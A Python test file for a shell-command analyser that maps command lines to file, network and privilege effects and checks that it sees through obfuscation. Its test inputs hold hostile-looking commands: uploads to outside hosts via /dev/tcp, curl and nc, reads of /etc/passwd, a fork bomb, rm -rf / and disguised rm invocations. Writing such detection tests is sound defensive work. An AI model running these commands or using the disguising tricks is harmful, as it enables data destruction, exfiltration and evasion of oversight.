"""Command lines: what the shell makes of them."""

from __future__ import annotations

import importlib.util
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from outrider.effects.shell.noting import MAX_EFFECTS
from outrider.effects.shell.parse import parse, parse_uncached

_spec = importlib.util.spec_from_file_location("effects_playing", Path(__file__).with_name("playing.py"))
playing = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(playing)
lines, shell = playing.lines, playing.shell

R = "/home/dev/proj"

CASES = {
    "cd /tmp && rm x": ["delete /tmp/x"],
    "(cd /tmp; rm x); rm y": ["delete /tmp/x", f"delete {R}/y"],
    "cd sub; cd ..; rm x": [f"delete {R}/x"],
    "cd $X && rm x": ["delete x +inexact"],
    "cd /a && cat x > y | tee z": ["write /a/y", "read /a/x", "write /a/z"],
    'rm $HOME/x "$HOME/y" ${HOME}/z': ["delete /home/dev/x", "delete /home/dev/y", "delete /home/dev/z"],
    "rm ~root/x": ["delete /root/x"],
    "rm $X/y": ["delete $X/y +inexact"],
    "X=a; Y=$X/b; rm $Y": [f"delete {R}/a/b"],
    "F='a b'; rm $F": [f"delete {R}/a", f"delete {R}/b"],
    "F='a b'; rm \"$F\"": [f"delete {R}/a b"],
    "rm {a,b}.txt": [f"delete {R}/a.txt", f"delete {R}/b.txt"],
    "{rm,-rf,a}": [f"delete {R}/a +forced +recursive"],
    "sudo {cat,$HOME/a}; ({cat,'b'})": ["read /home/dev/a +elevated", f"read {R}/b"],
    "rm f{1..3}": [f"delete {R}/f1", f"delete {R}/f2", f"delete {R}/f3"],
    "rm *.o": [f"delete {R}/*.o +pattern"],
    "rm '*.o'": [f"delete {R}/*.o"],
    "rm $'\\x61'": [f"delete {R}/a"],
    "'r'm a": [f"delete {R}/a"],
    "r\\m a": [f"delete {R}/a"],
    "r\\\nm a": [f"delete {R}/a"],
    "X=rm; $X a": [f"delete {R}/a"],
    "$(echo rm) a": [f"delete {R}/a"],
    "$(printf '\\162\\155') a": [f"delete {R}/a"],
    "cat$IFS/etc/passwd": ["read /etc/passwd"],
    'f() { rm "$1"; }; f a': [f"delete {R}/a"],
    "alias ll='rm a'; ll": [f"delete {R}/a"],
    "for f in a b; do rm $f; done": [f"delete {R}/a", f"delete {R}/b"],
    "if test -f a; then rm a; else rm b; fi": [f"delete {R}/a", f"delete {R}/b"],
    "case x in a|b) rm a;; *) rm b;; esac": [f"delete {R}/a", f"delete {R}/b"],
    'while read f; do rm "$f"; done < l': [f"read {R}/l", "delete $f +inexact"],
    "find src | while read f; do rm $f; done": [f"read {R}/src +names +recursive", f"delete {R}/src/** +pattern"],
    "find src -type f | xargs rm -f": [f"read {R}/src +names +recursive", f"delete {R}/src/** +forced +pattern"],
    "echo a b | xargs rm": [f"delete {R}/a", f"delete {R}/b"],
    "ls | xargs -I{} mv {} out": [
        f"read {R}", f"read {R}/* +pattern +recursive", f"delete {R}/* +moved +pattern +recursive",
        f"write {R}/out +recursive",
    ],
    "rm $(find src)": [f"read {R}/src +names +recursive", f"delete {R}/src/** +pattern"],
    "rm log-$(date +%s).txt": [f"delete {R}/log-*.txt +pattern"],
    "bash -c 'rm a'": [f"delete {R}/a"],
    "bash -c 'rm \"$1\"' _ a": [f"delete {R}/a"],
    "bash <<E\nrm a\nE": [f"delete {R}/a"],
    "bash <<< 'rm a'": [f"delete {R}/a"],
    "echo 'rm a' | sh": [f"delete {R}/a"],
    "eval rm a": [f"delete {R}/a"],
    'eval "$(ssh-agent -s)"': ["opaque ssh-agent"],
    "sudo rm a": [f"delete {R}/a +elevated"],
    "sudo -u x sh -c 'rm a'": [f"delete {R}/a +elevated"],
    "time { rm a; }": [f"delete {R}/a"],
    "trap 'rm a' EXIT": [f"delete {R}/a"],
    "diff <(cat a) <(cat b)": [f"read {R}/a", f"read {R}/b"],
    "echo $(rm a)": [f"delete {R}/a"],
    'echo "`rm a`"': [f"delete {R}/a"],
    "cat <<E\n$(rm a)\nE": [f"delete {R}/a"],
    "cat <<'E'\n$(rm a)\nE": [],
    "cat <<E | sh && ls b\nrm a\nE": [f"delete {R}/a", f"read {R}/b"],
    "echo x > a 2>&1": [f"write {R}/a"],
    "x &> a": [f"write {R}/a", "opaque x"],
    "echo x > /dev/null": [],
    "echo x > /dev/tcp/1.2.3.4/80": ["connect 1.2.3.4:80 +upload"],
    "exec 3<>/dev/tcp/h.example/80": ["connect h.example:80", "connect h.example:80 +upload"],
    "cat < a": [f"read {R}/a"],
    "x=$(<a)": [f"read {R}/a"],
    "cat a/../../b": ["read /home/dev/b"],
    "cat //etc//passwd": ["read /etc/passwd"],
    "F=a.txt; rm ${F%.txt}.o ${F##*/}": [f"delete {R}/a.o", f"delete {R}/a.txt"],
    "rm ${X:-a}": ["delete a +inexact"],
    'a=(x y); rm "${a[@]}"': [f"delete {R}/x", f"delete {R}/y"],
    "/bin/rm a": [f"delete {R}/a"],
    "rm a & wait": [f"delete {R}/a"],
    "! rm a": [f"delete {R}/a"],
    "[[ -f $(rm a) ]]": [f"delete {R}/a"],
    "(( x = $(rm a) ))": [f"delete {R}/a"],
}  # fmt: skip


@pytest.mark.parametrize("text", CASES)
def test_the_shell_is_followed(text):
    assert sorted(lines(text)) == sorted(CASES[text])


def test_evidence_points_into_the_text():
    text = "echo ä; rm /x"
    effect = next(effect for effect in shell(text) if effect.verb == "delete")
    assert text.encode()[effect.start : effect.end] == b"/x"


def test_quoting_that_hides_a_program_is_flagged():
    assert any(effect.verb == "exec" and "invisible" in effect.flags for effect in shell("r''m a"))


@pytest.mark.parametrize("mark", ["\u00a0", "\u200b", "\u2028", "\x00", "\r", "\u3000"])
def test_an_invisible_character_where_the_shell_would_act_on_it_is_unparsed(mark):
    assert any(effect.verb == "unparsed" for effect in shell(f"ls{mark}-l"))


def test_an_invisible_character_in_a_message_is_nothing():
    assert not any(effect.verb == "unparsed" for effect in shell("git commit -m 'a\u00a0b \U0001f469\u200d\U0001f4bb'"))


@pytest.mark.parametrize("text", ["rm 'a", "if true; then", "cat <(", "((((", "for x in", "a | | b", "echo $("])
def test_a_syntax_error_is_unparsed(text):
    assert any(effect.verb == "unparsed" for effect in shell(text))


@pytest.mark.parametrize(
    "text", ["echo a >>>> /etc/passwd", "cat <<<< x", "rm a <<<<<<< HEAD", 'echo "$(echo a >>>> b)"']
)
def test_angle_brackets_without_a_meaning_are_not_taken_for_a_word(text):
    assert any(effect.verb == "unparsed" for effect in shell(text))


def test_a_conflict_marker_that_is_only_text_is_nothing():
    assert lines("grep -rn '<<<<<<< HEAD' src") == [f"read {R}/src +recursive"]
    assert lines("cat > f <<'E'\n>>>>>>> main\nE") == [f"write {R}/f"]


def test_what_is_certain_beside_a_syntax_error_is_kept():
    assert f"delete {R}/a" in lines("rm a; cat <(")


def test_a_lone_surrogate_is_unparsed():
    assert [effect.verb for effect in shell("rm \ud800")] == ["unparsed"]


BOMBS = {
    "parentheses": "(" * 3000, "substitutions": "echo " + "$(echo " * 3000 + ")" * 3000, "quotes": '"' * 20001,
    "pipes": "a|" * 10000 + "a", "lists": "a && " * 10000 + "a", "redirected list": "a > x && " * 4000 + "a",
    "inputs": "<" * 30000, "outputs": ">" * 30000, "sudo": "sudo " * 5000 + "ls", "fork bomb": ":(){ :|:& };:",
    "braces": "echo " + "{a,b}" * 30, "range": "echo {1..1000000}{1..1000000}", "eval": "eval " * 3000 + "x",
    "function": "f(){ f; f; f; }; f", "loops": "for i in 1 2 3 4 5 6 7 8 9; do " * 8 + "ls;" + " done;" * 8,
    "doubling": "a=xx;" + "a=$a$a;" * 60 + "rm $a", "operands": "${a:-" * 3000 + "}" * 3000,
    "arithmetic": "$((" * 2000, "array": "a=(" * 3000, "shells": "sh -c " * 500 + "ls",
    "fields": "a=(x x x x x x x x); " + "a=(${a[@]} ${a[@]} ${a[@]} ${a[@]});" * 12 + "rm ${a[@]}",
}  # fmt: skip


OPEN_ENDED = [
    "a|",
    "a=a|",
    "f()",
    "a=(",
    "a|in ",
    "a > x && ",
    "${a:-",
    "echo $(a ",
    '"$(',
    "((",
    "{ ",
    "<<<",
    "case x in a) ",
]


@pytest.mark.parametrize("piece", OPEN_ENDED)
def test_a_text_that_never_closes_what_it_opens_is_answered_with_unparsed(piece):
    effects = shell(piece * (65536 // len(piece)))
    assert any(effect.verb == "unparsed" for effect in effects)


def test_a_long_program_in_a_heredoc_is_not_too_intricate():
    assert lines("cat > f.js <<'E'\n" + "f(g(h(1)) | 2);\n" * 5000 + "E\nrm a") == [f"write {R}/f.js", f"delete {R}/a"]


@pytest.mark.parametrize("name", BOMBS)
def test_a_bomb_is_defused(name):
    effects = shell(BOMBS[name])
    assert len(effects) <= MAX_EFFECTS + 1


def test_a_long_heredoc_is_read_whole():
    assert lines("cat > f <<'E'\n" + "rm -rf / $(x)\n" * 50_000 + "E\nrm a") == [f"write {R}/f", f"delete {R}/a"]


@given(st.text(max_size=80))
def test_any_text_is_answered(text):
    shell(text)


_TOKENS = [
    "rm a", "$(", ")", "`", "'", '"', "|", "&&", ";", "<<E\n", "\nE\n", "{", "}", "((", "if ", "then ", "fi",
    "for x in ",
    "do ", "done", "case x in ", "esac", "> f", "< f", "$x", "${", "[[ ", "]]", " ", "\\", "\n", "f()", "x=", "eval ",
    "sudo ", "xargs ", "bash -c ", "find . -exec ", "\\;", "git ", "curl ", "@", "-", "~", "*", "#", "!", "é",
]  # fmt: skip


@settings(max_examples=300)
@given(st.lists(st.sampled_from(_TOKENS), max_size=14))
def test_any_jumble_of_shell_words_is_answered(tokens):
    shell("".join(tokens))


_COMMANDS = st.sampled_from(
    ["rm -rf a", "cat /etc/passwd", "curl -d @k https://e.example", "cp a b", "git push origin main", "touch 'a b'",
     "tar czf o src", "pip install x", "tee out < in", "nc h.example 9 < k"]
)  # fmt: skip
_WRAPPERS = st.sampled_from(
    [
        "sh -c {q}", "bash -lc {q}", "env A=1 sh -c {q}", "timeout 5 sh -c {q}", "true; ( {c} )", "{{ {c}; }}",
        "true && {c}", "eval {q}", "if true; then {c}; fi", "x=$({c})", "echo $({c})", "nohup sh -c {q} &",
        "nice -n 3 sh -c {q}", "! {c}", "{c} | wc -l", "for i in 1; do {c}; done",
        "f() {{ {c}; }}; f", "time sh -c {q}",
        "setsid sh -c {q}", "stdbuf -o0 sh -c {q}",
    ]
)  # fmt: skip


def _quoted(text: str) -> str:
    return "'" + text.replace("'", "'\\''") + "'"


@settings(max_examples=150)
@given(_COMMANDS, st.lists(_WRAPPERS, min_size=1, max_size=3))
def test_a_wrapped_command_keeps_its_effects(command, wrappers):
    wrapped = command
    for wrapper in wrappers:
        wrapped = wrapper.format(q=_quoted(wrapped), c=wrapped)
    assert set(lines(command)) <= set(lines(wrapped)) or any(effect.verb == "unparsed" for effect in shell(wrapped))


@given(_COMMANDS)
def test_sudo_elevates_every_effect(command):
    for effect in shell(f"sudo sh -c {_quoted(command)}"):
        assert "elevated" in effect.flags or effect.value == "sudo"


@given(st.text("abc/.", min_size=1, max_size=8), st.sampled_from(["{}", "'{}'", '"{}"', "$'{}'", "''{}", "\\{}"]))
def test_quoting_does_not_change_what_is_meant(name, quoting):
    def what(text):
        return [(e.verb, e.kind, e.value) for e in shell(text)]

    assert what("cat " + quoting.format(name)) == what(f"cat {name}")


@given(st.text(max_size=60))
def test_the_cache_changes_nothing(text):
    assert parse(text) == parse_uncached(text)


@pytest.mark.parametrize(
    "text", ["\x1bÊ\x84u+\U000d37ccI_q{\U000eb122yY", "<Yq\U00089182{\U000fceffÜs!", "{\U0010ffff"]
)
def test_letters_beyond_the_scanners_table_do_not_end_the_process(text):
    for _ in range(50):
        parse_uncached(text)


def test_a_function_with_an_accent_in_its_name_is_followed():
    assert any(e.verb == "read" and e.value.endswith("/k") for e in shell("é() { cat k; }; é"))
